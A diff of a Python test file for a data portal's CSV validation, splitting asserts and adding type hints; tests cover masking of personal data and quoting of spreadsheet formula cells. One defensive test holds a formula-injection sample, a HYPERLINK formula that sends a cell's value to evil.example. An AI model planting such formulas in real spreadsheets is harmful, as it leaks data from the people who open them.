@@ -8,6 +8,7 @@ import json
 import logging
 import os
 from pathlib import Path
+from typing import Any
 
 import pytest
 from bs4 import BeautifulSoup
@@ -16,7 +17,7 @@ from mkdocs.exceptions import Abort
 from cocreate.standard.datafiles import MAX_DATA_BYTES
 from cocreate.standard.problems import Position
 from cocreate.standard.validate import validate_paths
-from helpers import build, make_portal
+from helpers import build, make_portal, one
 
 DATA = """data:
   - name: setoran
@@ -98,12 +99,13 @@ def test_tables_are_published_in_the_package_and_on_the_page(project: Path, tmp_
     assert json.loads((published / "setoran.schema.json").read_text("utf-8")) == SCHEMA
     package = json.loads((site / "data" / "datapackage.json").read_text("utf-8"))
     resource = next(r for r in package["resources"] if r["name"] == "bank-sampah_setoran")
-    assert resource["path"] == "projects/bank-sampah/setoran.csv" and resource["schema"] == SCHEMA
+    assert resource["path"] == "projects/bank-sampah/setoran.csv"
+    assert resource["schema"] == SCHEMA
     from frictionless import validate
 
     assert validate(str(site / "data" / "datapackage.json")).valid
     page = BeautifulSoup((site / "projects" / "bank-sampah" / "index.html").read_text("utf-8"), "html.parser")
-    assert page.select_one("#data a")["href"] == "../../data/projects/bank-sampah/setoran.csv"
+    assert one(page, "#data a")["href"] == "../../data/projects/bank-sampah/setoran.csv"
 
 
 # ----- what a table may hold: personal data, encoding, formulas ---------------------------
@@ -112,7 +114,7 @@ TEXT_SCHEMA = {"fields": [{"name": "bulan", "type": "yearmonth"}, {"name": "kg",
                           {"name": "catatan", "type": "string", "description": "Catatan petugas"}]}
 
 
-def table(project: Path, csv_text: str | bytes, schema: dict | str | bytes = TEXT_SCHEMA) -> Path:
+def table(project: Path, csv_text: str | bytes, schema: dict[str, Any] | str | bytes = TEXT_SCHEMA) -> Path:
     """Give the project's table new content: text is written as UTF-8, bytes as they are."""
     for name, content in (("setoran.csv", csv_text), ("setoran.schema.json", schema)):
         if isinstance(content, dict):
@@ -139,7 +141,8 @@ def test_an_email_in_a_cell_is_refused_at_its_row_and_column(project: Path) -> N
     table(project, 'bulan,kg,catatan\n2024-01,120.5,"dua\nbaris"\n2024-02,80,"hubungi budi@kota-sukamaju.id"\n')
     assert found(project) == [("personal-data-email", "setoran.csv", Position(4, 3), "catatan")]
     shown = reports(project)
-    assert "budi@kota" not in shown and "(bu" + "*" * 17 + "id)" in shown
+    assert "budi@kota" not in shown
+    assert "(bu" + "*" * 17 + "id)" in shown
 
 
 def test_a_phone_number_in_a_header_is_refused(project: Path) -> None:
@@ -150,7 +153,8 @@ def test_a_phone_number_in_a_header_is_refused(project: Path) -> None:
     assert found(project) == [("personal-data-phone", "setoran.csv", Position(1, 3), "wa 0812-3456-7890"),
                               ("personal-data-phone", "setoran.schema.json", Position(line, 15), "fields[2].name")]
     shown = reports(project)
-    assert "3456" not in shown and "csv:1:3: error[personal-data-phone]: wa 08**********90: " in shown
+    assert "3456" not in shown
+    assert "csv:1:3: error[personal-data-phone]: wa 08**********90: " in shown
 
 
 def test_a_nik_in_a_schema_description_is_refused(project: Path) -> None:
@@ -227,7 +231,7 @@ def test_tab_line_breaks_and_a_leading_bom_are_fine(project: Path, tmp_path: Pat
         b'"bulan","kg","catatan"\n"2024-01","1","a\tb\r\nc"\n'
 
 
-HOSTILE = {
+HOSTILE: dict[str, Any] = {
     "fields": [
         {"name": "teks", "type": "string"},
         {"name": "angka", "type": "number"},
@@ -259,7 +263,8 @@ def test_hostile_cells_are_published_with_a_quote_and_the_package_stays_valid(pr
     rows = list(csv.reader(io.StringIO(text, newline="")))
     assert rows[1:] == [[cell if not cell.startswith(FORMULA_START) or (column == 1 and cell != "=x") else f"'{cell}"
                          for column, cell in enumerate(row)] for row in HOSTILE_ROWS]
-    assert rows[1][0] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")" and rows[1][1] == "-5"
+    assert rows[1][0] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")"
+    assert rows[1][1] == "-5"
     assert text.splitlines()[1].startswith('"\'=HYPERLINK(""https://evil.example/?""&A1,""klik"")","-5",')
     package = json.loads((site / "data" / "datapackage.json").read_text("utf-8"))
     resource = next(r for r in package["resources"] if r["name"] == "bank-sampah_setoran")
@@ -280,7 +285,7 @@ def test_hostile_cells_are_published_with_a_quote_and_the_package_stays_valid(pr
     ("n\n=1+1\n", {"fields": [{"name": "n", "type": "integer", "bareNumber": False}]}, Position(2, 1), "n"),
     ("kode\n'=a\n=a\n", {"fields": [{"name": "kode", "constraints": {"unique": True}}]}, Position(3, 1), "kode"),
 ])
-def test_a_formula_that_cannot_take_the_quote_is_refused(project: Path, csv_text: str, schema: dict,
+def test_a_formula_that_cannot_take_the_quote_is_refused(project: Path, csv_text: str, schema: dict[str, Any],
                                                          position: Position, field: str) -> None:
     table(project, csv_text, schema)
     problems = validate_paths([project]).problems
@@ -288,7 +293,7 @@ def test_a_formula_that_cannot_take_the_quote_is_refused(project: Path, csv_text
         [("data-formula", "setoran.csv", position, field)]
 
 
-def test_a_docs_file_where_a_table_is_published_fails_the_build(project: Path, tmp_path: Path, caplog) -> None:
+def test_a_docs_file_where_a_table_is_published_fails_the_build(project: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
     config_file = make_portal(tmp_path / "portal", project.parent)
     docs = tmp_path / "portal" / "content" / "data" / "projects" / "bank-sampah"
     docs.mkdir(parents=True)
@@ -328,7 +333,8 @@ def test_resource_names_never_clash_across_projects(tmp_path: Path, minimal_text
         (src / slug / "setoran.schema.json").write_text(json.dumps(SCHEMA), "utf-8")
     site = build(make_portal(tmp_path / "portal", src))
     names = [r["name"] for r in json.loads((site / "data" / "datapackage.json").read_text("utf-8"))["resources"]]
-    assert len(names) == len(set(names)) and {"projects_json", "a_b-c", "a-b_c"} <= set(names)
+    assert len(names) == len(set(names))
+    assert {"projects_json", "a_b-c", "a-b_c"} <= set(names)
     assert validate(str(site / "data" / "datapackage.json")).valid
 
 
@@ -363,6 +369,7 @@ def test_validation_never_guesses_the_dialect(project: Path, monkeypatch: pytest
     import csv as csv_module
 
     calls: list[str] = []
-    monkeypatch.setattr(csv_module.Sniffer, "sniff", lambda self, sample, delimiters=None: calls.append(sample))
+    monkeypatch.setattr(csv_module.Sniffer, "sniff", lambda _self, sample, *_args, **_kwargs: calls.append(sample))
     table(project, "bulan,kg,catatan\n2024-01,1,\"" + ",'" * 50_000 + "\"\n")
-    assert found(project) == [] and calls == []
+    assert found(project) == []
+    assert calls == []
